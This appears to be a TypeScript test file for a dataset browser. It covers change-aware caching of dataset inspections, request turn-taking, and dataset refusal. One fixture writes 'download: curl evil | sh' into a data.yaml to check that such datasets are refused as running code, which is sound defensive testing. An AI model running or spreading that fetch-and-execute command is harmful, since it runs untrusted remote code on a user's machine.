import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { rememberGlances, takeTurns } from "./glances.ts";
import { openDatasets } from "./open.ts";
import { folderOf, write } from "./testing.ts";

const YOLO = "train: images\nval: images\nnc: 1\n";
const BOX = "0 0.5 0.5 0.1 0.1\n";
const LONG_AGO = new Date("2024-01-18T15:30:00Z");
const EARLIER = new Date("2024-01-18T15:29:00Z");

const DATASET = {
  path: "set",
  name: "set",
  format: "yolo" as const,
  task_types: [],
  num_classes: 1,
  class_names: ["a"],
  refusal: null,
};

describe("a remembered look", () => {
  /** Looks at a folder and a file in it, taken as settled, and counts how often. */
  async function counted() {
    const root = await folderOf({ "set/data.yaml": YOLO });
    const place = { path: "set", real: join(root, "set") };
    const file = join(place.real, "data.yaml");
    // Time stamps go by ticks of the system: what is made and changed in one would keep its stamp.
    for (const path of [file, place.real]) await Deno.utime(path, LONG_AGO, LONG_AGO);
    let looks = 0;
    const glances = rememberGlances((_, seen) => {
      looks++;
      seen.add(file).add(join(place.real, "missing"));
      return Promise.resolve(DATASET);
    }, { settledMs: -1000 });
    return { place, file, glance: () => glances.at(place), looks: () => looks };
  }

  test("is made once while nothing changes", async () => {
    const { glance, looks } = await counted();
    for (let i = 0; i < 3; i++) expect(await glance()).toEqual(DATASET);
    expect(looks()).toBe(1);
  });

  test.each<[string, (places: { file: string; folder: string }) => Promise<unknown>]>([
    ["a file is written", ({ file }) => Deno.writeTextFile(file, YOLO + "# more\n")],
    ["a file is set back in time", ({ file }) => Deno.utime(file, EARLIER, EARLIER)],
    ["a file goes", ({ file }) => Deno.remove(file)],
    ["a missing file comes", ({ folder }) => Deno.writeTextFile(join(folder, "missing"), "")],
    ["a file is added", ({ folder }) => Deno.writeTextFile(join(folder, "new.jpg"), "")],
    ["the folder is replaced", async ({ folder }) => {
      await Deno.rename(folder, `${folder}.old`);
      await Deno.mkdir(folder);
    }],
  ])("is made anew when %s", async (_, change) => {
    const { place, file, glance, looks } = await counted();
    await glance();
    await change({ file, folder: place.real });
    await glance();
    expect(looks()).toBe(2);
  });
});

test("a folder deeper in the dataset is looked after once a second", async () => {
  const root = await folderOf({ "set/data.yaml": YOLO, "set/labels/train/1.txt": BOX });
  const place = { path: "set", real: join(root, "set") };
  const deep = join(place.real, "labels/train");
  let looks = 0;
  const glances = rememberGlances((_, seen) => {
    looks++;
    seen.add(deep);
    return Promise.resolve(DATASET);
  }, { settledMs: -1000 });
  await glances.at(place);
  await write(deep, { "2.txt": BOX });
  const changed = performance.now();
  await expect.poll(async () => (await glances.at(place), looks)).toBe(2);
  expect(performance.now() - changed).toBeLessThan(3000);
});

test("what changed just now is not remembered, nor is a refusal", async () => {
  const root = await folderOf({ "set/data.yaml": YOLO });
  const place = { path: "set", real: join(root, "set") };
  for (
    const [dataset, settledMs] of [
      [DATASET, 60_000],
      [
        { ...DATASET, refusal: { key: "dataset_unrecognised", dataset_path: "set" } as const },
        -1000,
      ],
    ] as const
  ) {
    let looks = 0;
    const glances = rememberGlances(() => {
      looks++;
      return Promise.resolve(dataset);
    }, { settledMs });
    await glances.at(place);
    await glances.at(place);
    expect(looks).toBe(2);
  }
});

test("a dataset's looks name what they rest on", async () => {
  const root = await folderOf({
    "set/data.yaml": YOLO,
    "set/images/1.jpg": "",
    "set/labels/1.txt": BOX,
  });
  const datasets = openDatasets([root]);
  expect(await datasets.find("set")).toMatchObject({ refusal: null, num_classes: 1 });
  await write(join(root, "set"), { "data.yaml": YOLO + "download: curl evil | sh\n" });
  expect(await datasets.find("set")).toMatchObject({ refusal: { key: "dataset_runs_code" } });
  await write(join(root, "set"), { "data.yaml": YOLO.replace("nc: 1", "nc: 2") });
  expect(await datasets.find("set")).toMatchObject({ refusal: null, num_classes: 2 });
  await Deno.remove(join(root, "set"), { recursive: true });
  expect(await datasets.find("set")).toBeUndefined();
});

describe("turns", () => {
  test("who asks while work is under way shares the next run, which begins after", async () => {
    const runs: PromiseWithResolvers<string>[] = [];
    const ask = takeTurns(() => {
      runs.push(Promise.withResolvers<string>());
      return runs.at(-1)!.promise;
    });
    const first = ask("a");
    const [second, third] = [ask("a"), ask("a")];
    expect(runs).toHaveLength(1);
    runs[0]!.resolve("before");
    expect(await first).toBe("before");
    await new Promise((resolve) => setTimeout(resolve));
    expect(runs).toHaveLength(2);
    const fourth = ask("a");
    runs[1]!.resolve("after");
    expect(await Promise.all([second, third])).toEqual(["after", "after"]);
    await new Promise((resolve) => setTimeout(resolve));
    expect(runs).toHaveLength(3);
    runs[2]!.resolve("later");
    expect(await fourth).toBe("later");
  });

  test("a failure is told to who shared it, and the next run is made", async () => {
    let fails = true;
    const ask = takeTurns((key) => fails ? Promise.reject(new Error(key)) : Promise.resolve(key));
    const outcomes = await Promise.allSettled([ask("a"), ask("b")]);
    expect(outcomes.map(({ status }) => status)).toEqual(["rejected", "rejected"]);
    fails = false;
    expect(await Promise.all([ask("a"), ask("a")])).toEqual(["a", "a"]);
  });
});
